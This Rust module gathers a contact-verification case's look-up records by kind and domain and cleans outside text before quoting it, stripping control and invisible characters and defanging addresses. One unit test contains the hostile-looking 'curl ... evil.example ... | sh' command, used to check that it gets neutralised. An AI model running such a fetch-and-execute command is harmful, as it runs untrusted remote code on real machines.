//! What was looked up, read for the signals: the one place that opens records.
//!
//! - [`Record`]s are what came back of each kind, typed; [`exactly`], [`above`] and [`all`] find them.
//! - [`sites`] and [`boards`] are of the employers that the contact claims.
//! - [`own_profiles`] and [`shown`] are of addresses that the contact showed.
//! - [`quoted`] and [`told`] make words from outside fit for a sentence of ours.

mod addresses;
mod employers;
mod records;

use jiff::Timestamp;

use crate::case::{Lookup, LookupResult};
use crate::reading::Reading;
use crate::reference::at_or_below;
use crate::text::fold::invisible;
use crate::verdict::defang;

pub use addresses::{PublicProfile, own_profiles, shown, whole};
pub use employers::{Board, Site, boards, named_by_its_site, same_firm, sites};
pub use records::{
    Address, Certificates, Company, Dns, JobBoard, Notice, Posting, Profile, Rdap, Record, Repository, ReverseImage,
    Run,
};

/// What was asked and what came back.
#[derive(Debug, Clone, PartialEq)]
pub struct Answer<'r, R> {
    /// The look-up.
    pub lookup: &'r Lookup,
    /// Its record.
    pub record: R,
}

impl<'r, R: Record> Answer<'r, R> {
    fn of(lookup: &'r Lookup) -> Self {
        let record = Some(&lookup.record).filter(|record| record.is_object());
        Self { lookup, record: record.and_then(|record| R::deserialize(record).ok()).unwrap_or_default() }
    }

    /// What came of it.
    #[must_use]
    pub fn result(&self) -> LookupResult {
        self.lookup.result
    }

    /// Whether it was made near enough to a moment to tell how things were then: records change.
    #[must_use]
    pub fn is_near(&self, moment: Option<Timestamp>) -> bool {
        const MOST: i64 = 30 * 24 * 3600;
        match (self.lookup.asked_at, moment) {
            (Some(asked), Some(moment)) => (asked.as_second() - moment.as_second()).abs() <= MOST,
            _ => true,
        }
    }
}

/// The look-ups of a kind.
pub fn all<'r, R: Record>(reading: &Reading<'r>) -> impl Iterator<Item = Answer<'r, R>> + use<'r, R> {
    reading.case.lookups.iter().filter(|lookup| lookup.kind == R::KIND).map(Answer::of)
}

/// The look-up of a kind about exactly this subject, whatever came of it.
#[must_use]
pub fn exactly<'r, R: Record>(reading: &Reading<'r>, subject: &str) -> Option<Answer<'r, R>> {
    let mut lookups = reading.case.lookups.iter();
    lookups.find(|lookup| lookup.kind == R::KIND && lookup.subject == subject).map(Answer::of)
}

/// The look-up of a kind about a domain or one above it, whatever came of it.
#[must_use]
pub fn above<'r, R: Record>(reading: &Reading<'r>, domain: &str) -> Option<Answer<'r, R>> {
    let mut lookups = reading.case.lookups.iter();
    lookups.find(|lookup| lookup.kind == R::KIND && at_or_below(domain, &lookup.subject)).map(Answer::of)
}

/// A text from outside as it may stand in a sentence of ours: one line, visible characters, not too long.
#[must_use]
pub fn quoted(text: &str) -> String {
    visible(text, 240)
}

/// The same of words that may be hostile and no sentence: shorter, and addresses in it cannot be clicked.
#[must_use]
pub fn told(text: &str) -> String {
    defang(&visible(text, 120))
}

/// One line of visible characters: marks that steer a terminal or turn the reading direction go, and the end of what is
/// long is left out.
fn visible(text: &str, longest: usize) -> String {
    let plain: String = text.chars().filter(|c| c.is_whitespace() || !c.is_control() && !invisible(*c)).collect();
    let one_line = plain.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut short: String = one_line.chars().take(longest).collect();
    if short.len() < one_line.len() {
        short.push('…');
    }
    short
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotations_are_one_visible_line() {
        assert_eq!(quoted("We\u{202e} never\n\u{1b}[31m ask"), "We never [31m ask");
        assert_eq!(quoted(&"a".repeat(1_000)).chars().count(), 241);
    }

    #[test]
    fn what_a_record_says_is_told_without_its_teeth() {
        assert_eq!(
            told("curl https://evil.example/s\u{1b}[31m | sh\u{202e}"),
            "curl hxxps://evil[.]example/s[31m | sh"
        );
        assert_eq!(told(&"가".repeat(500)).chars().count(), 121);
    }
}
